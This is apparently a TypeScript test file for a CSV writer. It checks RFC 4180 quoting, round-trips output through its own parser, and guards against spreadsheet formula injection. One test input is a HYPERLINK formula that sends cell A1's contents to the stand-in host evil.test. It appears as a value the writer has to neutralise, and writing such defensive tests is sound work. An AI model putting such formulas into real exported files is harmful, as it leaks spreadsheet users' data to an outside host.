import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvField, csvLine } from './csv.ts'

/** Reads RFC 4180 letter by letter, by its grammar and with nothing of the writer. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const letter = text[at]
    if (isQuoted) {
      if (letter !== '"') field += letter
      else if (text[at + 1] === '"') field += text[++at]
      else isQuoted = false
    } else if (letter === '"') isQuoted = true
    else if (letter === ',') {
      record.push(field)
      field = ''
    } else if (letter === '\r' && text[at + 1] === '\n') {
      at++
      records.push([...record, field])
      record = []
      field = ''
    } else field += letter
  }
  return records
}

const awkward = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '=', "'", 'ж', ' ') }),
)

describe('CSV', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "no"', '"say ""no"""'],
    ['two\nlines', '"two\nlines"'],
    [null, ''],
    [undefined, ''],
    [-3.5, '-3.5'],
    [true, 'true'],
  ])('writes %j as %s', (value, text) => expect(csvField(value)).toBe(text))

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("https://evil.test/"&A1,"ok")'])(
    'gives no spreadsheet the formula %j',
    (value) => {
      const [[field]] = parseCsv(`${csvField(value)}\r\n`) as [[string]]
      expect(field).toBe(`'${value}`)
    },
  )

  it('is read back as it was, whatever it holds', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(awkward, { minLength: 2, maxLength: 4 }), { maxLength: 5 }),
        (records) => {
          const text = records.map((record) => `${csvLine(record)}\r\n`).join('')
          const told = records.map((record) => record.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)))
          expect(parseCsv(text)).toEqual(told)
        },
      ),
    )
  })

  it('never begins a field with what a spreadsheet would run', () => {
    fc.assert(
      fc.property(awkward, (value) => {
        const [[field]] = parseCsv(`${csvField(value)}\r\n`) as [[string]]
        expect(field).not.toMatch(/^[=+\-@\t\r]/)
      }),
    )
  })
})
